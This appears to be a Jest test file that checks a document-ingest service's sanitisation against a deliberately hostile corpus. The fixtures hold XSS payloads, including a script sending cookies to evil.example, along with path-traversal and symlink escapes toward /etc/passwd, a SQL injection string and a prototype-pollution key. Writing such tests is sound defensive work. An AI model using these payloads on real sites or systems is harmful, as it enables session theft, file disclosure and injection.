import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { INestApplicationContext } from '@nestjs/common';
import { ConfigModule } from '@parley/config';
import { CorpusModule, CorpusRepository, IngestService } from '@parley/corpus';
import { Database, DatabaseModule } from '@parley/database';
import { PersonaRegistry, PersonasModule } from '@parley/personas';
import { startTestContext } from '../support/test-app';
import { FOUNDER } from '../support/fixture-corpus';

// A corpus written at test time: good documents full of hostile markup beside manifest entries that are
// broken in every way we could think of. Only the good parts may be ingested, and no markup or script
// text may reach the stored document text (the text every citation quotes).

const HUGE_ATTRIBUTE = 'A'.repeat(1024 * 1024);

const HOSTILE_HTML = `<!DOCTYPE html>
<html><head><title>Injected title</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body { background: url(javascript:alert(1)) }</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
</head>
<body onload="alert('body')">
<h1 onclick="alert(1)">On the Tasks of the Unions</h1>
<p>The unions must become schools of administration for the working class.</p>
<p>Every worker <a href="javascript:alert(document.cookie)" onmouseover="alert(2)">must learn</a> to manage industry.</p>
<div data-x="${HUGE_ATTRIBUTE}" title='${HUGE_ATTRIBUTE.slice(0, 1000)}'>Discipline in the factory is the first condition of victory.</div>
<p>Nested <b><i><u><s>tags <b>left <i>open
<p>The second congress resolved to study the lessons of the strike.
<img src=x onerror="alert('img')"><svg onload=alert('svg')><circle/></svg>
<iframe srcdoc="<script>alert('iframe')</script>"></iframe>
<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">
<!-- <script>alert('comment')</script> -->
<noscript><img src=x onerror=alert('noscript')></noscript>
<template><script>alert('template')</script></template>
<form action="javascript:alert('form')"><input value="x" onfocus="alert('input')" autofocus></form>
<p style="x:expression(alert('css'))">Only organisation gives the working class its strength.</p>
<p><a href="  JaVaScRiPt:alert('case')">mixed case link</a> <a href="data:text/html,<script>alert('data')</script>">data link</a></p>
<script src="https://evil.example/x.js"></script>
<p>The end of the resolution.</p>
</body></html>
<div unclosed="`;

const HOSTILE_MARKDOWN = `---
title: front matter
---
# On Discipline

The working class needs discipline and organisation above all.

<script>alert('md script')</script>

Read [the archive](javascript:alert('mdlink')) and ![a picture](javascript:alert('mdimg') "onerror=alert(1)").

<img src=x onerror=alert('md raw img')> The congress closed with the Internationale.

<div onclick="alert('md div')">Every member must study.</div>
`;

const BASE = { persona: FOUNDER, author: 'I. M. Brandt', date: '1920-05-01' };

function hostileCorpus(): string {
  const dir = mkdtempSync(join(tmpdir(), 'parley-hostile-'));
  mkdirSync(join(dir, FOUNDER));
  writeFileSync(join(dir, `${FOUNDER}/unions.html`), HOSTILE_HTML);
  writeFileSync(join(dir, `${FOUNDER}/discipline.md`), HOSTILE_MARKDOWN);
  writeFileSync(join(dir, `${FOUNDER}/plain.txt`), 'A plain document about the state and revolution.\n');
  const outside = join(dir, '..', `outside-${Date.now()}.txt`);
  writeFileSync(outside, 'A secret outside the corpus.');
  symlinkSync(outside, join(dir, `${FOUNDER}/escape.txt`));
  const manifest: unknown[] = [
    { ...BASE, file: `${FOUNDER}/unions.html`, title: 'On the Tasks of the Unions' },
    { ...BASE, file: `${FOUNDER}/discipline.md`, title: 'On Discipline' },
    { ...BASE, file: `${FOUNDER}/plain.txt`, title: 'Plain', source_url: 'https://example.org/plain' },
    null,
    42,
    `${FOUNDER}/plain.txt`,
    [],
    {},
    { ...BASE, title: 'No file' },
    { file: `${FOUNDER}/plain.txt`, title: 'No persona, author or date' },
    { ...BASE, file: `${FOUNDER}/plain.txt`, title: ['an', 'array'] },
    { ...BASE, file: `${FOUNDER}/plain.txt`, title: 'Numeric date', date: 1920 },
    { ...BASE, file: '../../../etc/passwd', title: 'Traversal' },
    { ...BASE, file: '/etc/passwd', title: 'Absolute' },
    { ...BASE, file: `${FOUNDER}\\..\\..\\x.txt`, title: 'Backslashes' },
    { ...BASE, file: `${FOUNDER}/./plain.txt`, title: 'Dot segment' },
    { ...BASE, file: `${FOUNDER}//plain.txt`, title: 'Empty segment' },
    { ...BASE, file: `${FOUNDER}/escape.txt`, title: 'Symlink out of the corpus' },
    { ...BASE, file: `${FOUNDER}/unions.html`, title: 'Duplicate entry' },
    { ...BASE, file: `${FOUNDER}/plain.txt`, title: 'Script URL', source_url: 'javascript:alert(1)' },
    { ...BASE, file: `${FOUNDER}/plain.txt`, title: 'Proto persona', persona: '__proto__' },
    { ...BASE, file: `${FOUNDER}/plain.txt`, title: "'; DROP TABLE documents; --", date: "1920'; --" },
    { ...BASE, file: `${FOUNDER}/nul\u0000.txt`, title: 'NUL in the path' },
    { ...BASE, file: `${FOUNDER}/surrogate\ud800.txt`, title: 'A lone surrogate in the path' },
  ];
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
  return dir;
}

// Markup, script URLs, event handlers and the text of anything that runs.
const FORBIDDEN = [
  /<\/?[a-z!][^>]*>/i,
  /javascript:/i,
  /\bon(error|load|click|mouseover|focus)\s*=/i,
  /alert\(/,
  /evil\.example/,
  /document\.(cookie|location)/,
  /expression\(/,
  /AAAAAAAAAAAAAAAA/,
  /Injected title/,
  /front matter/,
];

describe('ingesting a hostile corpus', () => {
  let app: INestApplicationContext;
  let dir: string;
  let report: Awaited<ReturnType<IngestService['ingest']>>;

  beforeAll(async () => {
    app = await startTestContext([ConfigModule, DatabaseModule, CorpusModule, PersonasModule]);
    dir = hostileCorpus();
    const known = app.get(PersonaRegistry).ids();
    report = await app.get(IngestService).ingest({ corpusDir: dir, knownPersonas: known });
  });
  afterAll(async () => {
    await app.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('ingests the three good documents and reports every broken entry instead of failing', async () => {
    const docs = await app.get(CorpusRepository).listDocuments();
    expect(docs.map((d) => d.source).sort()).toEqual([
      `${FOUNDER}/discipline.md`,
      `${FOUNDER}/plain.txt`,
      `${FOUNDER}/unions.html`,
    ]);
    // 20 broken entries, each reported (the duplicate may be reported as such or merged, but not stored twice).
    expect(report.problems.length).toBeGreaterThanOrEqual(18);
    for (const p of report.problems) expect(p.reason).toEqual(expect.any(String));
    const sources = report.problems.map((p) => p.source).join('\n');
    expect(sources).toContain('etc/passwd');
    expect(sources).toContain(`${FOUNDER}/escape.txt`);
  });

  it('stores no markup, script text, script URL or event handler in any document or chunk', async () => {
    const db = app.get(Database);
    const rows = await db.query<{ source: string; text: string; title: string; url: string | null }>(
      'SELECT source, text, title, url FROM documents',
    );
    const chunks = await db.query<{ text: string; heading: string | null }>(
      'SELECT text, heading FROM chunks',
    );
    for (const text of [...rows.map((r) => r.text), ...chunks.map((c) => `${c.text}\n${c.heading ?? ''}`)]) {
      for (const pattern of FORBIDDEN)
        expect({ pattern: String(pattern), found: pattern.exec(text)?.[0] }).toEqual({
          pattern: String(pattern),
          found: undefined,
        });
    }
    expect(rows.every((r) => r.url === null || /^https?:\/\//.test(r.url))).toBe(true);
    expect(rows.some((r) => r.text.includes('A secret outside the corpus'))).toBe(false);
  });

  it('keeps the visible text of the hostile pages, in order', async () => {
    const docs = await app.get(CorpusRepository).listDocuments();
    const unions = await app
      .get(CorpusRepository)
      .findDocument(docs.find((d) => d.source === `${FOUNDER}/unions.html`)!.id);
    const text = unions!.text;
    const expected = [
      'On the Tasks of the Unions',
      'The unions must become schools of administration for the working class.',
      'must learn',
      'Discipline in the factory is the first condition of victory.',
      'The second congress resolved to study the lessons of the strike.',
      'Only organisation gives the working class its strength.',
      'The end of the resolution.',
    ];
    let at = 0;
    for (const line of expected) {
      const found = text.indexOf(line, at);
      expect({ line, found: found >= 0 }).toEqual({ line, found: true });
      at = found;
    }
    expect(text.length).toBeLessThan(5000);
    const md = await app
      .get(CorpusRepository)
      .findDocument(docs.find((d) => d.source === `${FOUNDER}/discipline.md`)!.id);
    expect(md!.text).toContain('The working class needs discipline and organisation above all.');
    expect(md!.text).toContain('Every member must study.');
  });
});
